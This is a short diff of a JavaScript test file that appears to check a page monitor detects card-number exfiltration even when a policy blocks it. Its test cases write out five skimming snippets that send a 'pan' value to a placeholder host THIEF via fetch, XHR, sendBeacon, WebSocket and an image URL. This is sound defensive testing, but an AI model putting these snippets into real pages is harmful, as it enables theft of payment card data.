@@ -75,7 +75,7 @@ it.each([
   ['sends-fetch', `fetch('http://THIEF/a?' + pan, { mode: 'no-cors' }).catch(() => 0)`],
   ['sends-xhr', `const x = new XMLHttpRequest(); x.open('POST', 'http://THIEF/x'); x.send(pan)`],
   ['sends-beacon', `navigator.sendBeacon('http://THIEF/b', pan)`],
-  ['sends-websocket', `try { new WebSocket('ws://THIEF/w?' + pan) } catch {}`],
+  ['sends-websocket', `new WebSocket('ws://THIEF/w?' + pan)`],
   ['sends-image', `new Image().src = 'http://THIEF/i?' + pan`],
 ])('%s is told of though a policy stops it', async (kind, work) => {
   const watched = await watchPage(browser, {
